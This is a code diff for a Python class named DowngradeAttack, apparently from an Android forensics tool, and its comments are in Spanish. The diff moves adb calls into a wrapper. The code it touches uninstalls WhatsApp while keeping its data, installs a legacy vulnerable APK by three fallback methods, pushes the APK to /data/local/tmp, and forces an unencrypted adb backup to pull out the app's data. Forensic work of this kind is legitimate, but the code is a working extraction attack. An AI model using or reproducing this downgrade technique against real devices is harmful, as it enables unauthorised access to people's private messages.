@@ -26,7 +26,7 @@ class DowngradeAttack:
         try:
             # 2. Desinstalación (Keep Data)
             ForensicUtils.log("DOWNGRADE", "INFO", "[1/4] Ejecutando Swap (Uninstall -k)...")
-            subprocess.run(["adb", "shell", "pm", "uninstall", "-k", self.pkg], check=False)
+            self.adb.run("shell", "pm", "uninstall", "-k", self.pkg)
             time.sleep(2)
 
             # 3. Instalación de versión vulnerable (TRIPLE INTENTO)
@@ -36,7 +36,7 @@ class DowngradeAttack:
             
             # Método A: Estándar
             try:
-                subprocess.run(["adb", "install", "-r", "-d", self.legacy_apk], check=True, stderr=subprocess.PIPE)
+                self.adb.run("install", "-r", "-d", self.legacy_apk, check=True)
                 install_success = True
             except subprocess.CalledProcessError:
                 pass # Falló A
@@ -44,7 +44,7 @@ class DowngradeAttack:
             # Método B: Solo Downgrade
             if not install_success:
                 try:
-                    subprocess.run(["adb", "install", "-d", self.legacy_apk], check=True, stderr=subprocess.PIPE)
+                    self.adb.run("install", "-d", self.legacy_apk, check=True)
                     install_success = True
                 except subprocess.CalledProcessError:
                     pass # Falló B
@@ -55,9 +55,9 @@ class DowngradeAttack:
                 remote_tmp = "/data/local/tmp/LegacyWhatsApp.apk"
                 try:
                     # Subir archivo
-                    subprocess.run(["adb", "push", self.legacy_apk, remote_tmp], check=True)
+                    self.adb.push(self.legacy_apk, remote_tmp, check=True)
                     # Instalar desde adentro
-                    res = subprocess.run(["adb", "shell", "pm", "install", "-r", "-d", remote_tmp], capture_output=True, text=True)
+                    res = self.adb.run("shell", "pm", "install", "-r", "-d", remote_tmp)
                     
                     if "Success" in res.stdout:
                         install_success = True
@@ -76,7 +76,7 @@ class DowngradeAttack:
             # 4. Forzar Backup
             backup_file = os.path.join(output_dir, "backup.ab")
             ForensicUtils.log("DOWNGRADE", "WARNING", "[3/4] >>> ACEPTA EL BACKUP EN EL TELÉFONO (Sin clave) <<<")
-            subprocess.run(f"adb backup -f {backup_file} -noapk {self.pkg}", shell=True, check=True)
+            self.adb.run("backup", "-f", backup_file, "-noapk", self.pkg, check=True)
 
             # 5. Extracción
             if os.path.exists(backup_file) and os.path.getsize(backup_file) > 1000: